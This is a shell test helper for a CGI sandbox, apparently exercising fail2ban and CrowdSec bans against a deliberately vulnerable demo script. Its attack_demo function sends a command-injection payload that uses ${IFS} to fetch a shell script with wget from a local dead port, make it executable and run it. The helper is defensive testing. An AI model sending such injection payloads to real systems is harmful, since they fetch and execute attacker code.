# The ban tests' live part (t_fail2ban.sh, t_crowdsec.sh): the real nginx
# and safecgi of lib.sh, a second nginx server that passes 203.0.113.7 as
# REMOTE_ADDR (Debian's CrowdSec whitelist drops 127.0.0.1), and three
# scripts:
#   policy.sh       a benign shell script that runs id, which its profile
#                   does not allow: one exec_denied per page load (the
#                   shell tries /usr/bin/id, then /bin/id, the same file),
#                   evidence policy
#   complain.sh     the same kind of script in complain mode, running wget
#                   (a tool whose denied exec is an attack in enforce mode)
#   mainfunction.cgi  the README's vulnerable demo script, demo profile
# Source after lib.sh; then banlive_start, benign_loads N, attack_demo N.

LIVE=http://127.0.0.1:$((PORT + 1))

banlive_start() {
	install_test_scripts
	install_script "$top_srcdir/contrib/demo/cgi-bin/mainfunction.cgi"
	printf '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\n"\necho hello; id\n' \
	    > "$T/policy.sh"
	install_script "$T/policy.sh"
	printf '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\n"\nwget --version | head -1\n' \
	    > "$T/complain.sh"
	install_script "$T/complain.sh"
	write_test_profile
	cat > "$T/profiles/policy.conf" <<P
[profile]
match = $CGIBIN/policy.sh
P
	cat > "$T/profiles/complain.conf" <<P
[profile]
mode = complain
match = $CGIBIN/complain.sh
[filesystem]
exec = /usr/bin/head
P
	sed "s|^match = .*|match = $CGIBIN/mainfunction.cgi|" \
	    "$top_srcdir/contrib/demo/demo.conf" > "$T/profiles/demo.conf"
	NGINX_EXTRA="}
	server {
		listen 127.0.0.1:$((PORT + 1));
		root $DOCROOT;
		location /cgi-bin/ {
$(grep -v -e '^#' -e REMOTE_ADDR /etc/nginx/fastcgi_params | grep . | sed 's/^/\t\t\t/')
			fastcgi_param REMOTE_ADDR 203.0.113.7;
			fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
			fastcgi_pass unix:$SOCK;
		}"
	start_nginx
	start_safecgi -c 1
}

# benign_loads N: N page loads of policy.sh and of complain.sh; prints how
# many answered 200
benign_loads() {
	n=0
	i=0
	while [ $i -lt "$1" ]; do
		[ "$(http_status "$LIVE/cgi-bin/policy.sh")" = 200 ] && n=$((n + 1))
		[ "$(http_status "$LIVE/cgi-bin/complain.sh")" = 200 ] &&
		    n=$((n + 1))
		i=$((i + 1))
	done
	echo "$n"
}

# attack_demo N: the README's attack request, N times
attack_demo() {
	i=0
	while [ $i -lt "$1" ]; do
		curl -s -g -o /dev/null --max-time 30 "$LIVE/cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx%52\$c%52\$ccd\${IFS}/dev;wget\${IFS}http://127.0.0.1:9/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh"
		i=$((i + 1))
	done
}
